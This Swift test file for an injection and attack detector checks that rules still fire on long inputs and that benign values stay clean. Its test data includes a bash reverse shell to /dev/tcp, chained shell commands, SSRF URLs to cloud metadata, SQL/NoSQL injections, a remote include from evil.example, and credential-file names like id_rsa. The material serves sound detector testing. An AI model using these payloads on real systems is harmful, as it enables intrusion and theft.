@testable import PalisadeDetect
import Testing

/// The own detectors skip work on long values by their bytes (a `;` taken as a SQL needle, the
/// `$where` patterns, `/dev/tcp`, metadata addresses, `__proto__`, constructor paths, the path
/// traversal needle pass, remote includes) and look URL schemes up in word tables: attacks that need
/// each of these must still be found, and the benchmark's long honest values must stay clean.
@Suite struct OwnDetectorLongValueTests {
    private static func rules(_ category: AttackCategory, _ text: String) -> [String] {
        var scratch = DetectorScratch()
        scratch.start()
        var matches: [Match] = []
        OwnDetectors.run(category, ScanInput(Array(text.utf8)), scratch: &scratch, into: &matches)
        return matches.map(\.rule)
    }

    @Test func attacksBehindTheShortcutsAreFound() {
        let cases: [(String, AttackCategory, String)] = [
            ("gopher://127.0.0.1:70/_x", .ssrf, "ssrf.dangerous-scheme"),
            ("see http://169.254.169.254/latest/meta-data", .ssrf, "ssrf.cloud-metadata"),
            ("https://LOCALHOST:9001/2018-06-01/runtime", .ssrf, "ssrf.runtime-api"),
            ("http://10.0.0.1.nip.io/", .ssrf, "ssrf.private-network"),
            ("x;bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", .cmdi, "cmdi.reverse-shell"),
            ("/DEV/UDP/10.0.0.1/53", .cmdi, "cmdi.reverse-shell"),
            ("a; cmd.exe /c dir", .cmdi, "cmdi.chained-command"),
            ("Mozilla/5.0 (X11; Linux) ; sleep 5", .cmdi, "cmdi.chained-command"),
            ("'; return true; var a='", .nosql, "nosql.where-injection"),
            ("\" || '1'=='1", .sqli, "sqli.boolean-injection"),
            ("http://evil.example/shell.txt?", .traversal, "traversal.remote-include"),
            ("{\"__proto__\":{\"a\":1}}", .proto, "proto.proto-key"),
            ("a.constructor.prototype.b", .proto, "proto.constructor-prototype"),
        ]
        for (text, category, rule) in cases {
            #expect(Self.rules(category, text) == [rule], "\(text)")
        }
    }

    @Test func longHonestValuesStayClean() {
        let values = [
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
            "https://shop.example.com/receipts/ord_2026-11-23_000417?lang=en&utm_source=email",
            "Ring twice; if nobody answers, leave it with the neighbour (No. 14). Thanks!",
            "web; Safari 18.1 / macOS 14.6",
            "12 Rue de l'Église, Apt. #4",
        ]
        for value in values {
            for category in AttackCategory.allCases {
                #expect(Self.rules(category, value).isEmpty, "\(category): \(value)")
            }
        }
    }

    /// Path traversal skips the needle pass when no wrapper or file name has all its bytes in the
    /// input and no `..` occurs: then the pass must find none of its needles.
    @Test func traversalSkipsTheNeedlePassOnlyWithoutANeedle() {
        let fragments = ["etc/passwd", "etc/", "passwd", "..", ".", "/", "\\", ":", "php://", "proc/self/", "win.ini", ".env", "id_rsa",
                         "/root/", "var/log/", "Mozilla/5.0", "a", "x", " ", "(KHTML)", "?", "#"]
        var random = SeededRandom(seed: 12)
        var skipped = 0
        for _ in 0..<20_000 {
            var bytes: [UInt8] = []
            for _ in 0..<(1 + random.next(below: 6)) { bytes += Array(fragments[random.next(below: fragments.count)].utf8) }
            if random.next(below: 2) == 0 { bytes = bytes.map { $0 >= 0x61 && $0 <= 0x7A ? $0 - 0x20 : $0 } }
            let input = ScanInput(bytes)
            var scratch = DetectorScratch()
            scratch.start()
            let needle = scratch.hasNeedle(of: .traversal, in: input)
            if !PathTraversalDetector.mayHaveNeedle(input) {
                skipped += 1
                #expect(!needle, "\(String(decoding: bytes, as: UTF8.self))")
            }
        }
        #expect(skipped > 1000)
    }
}
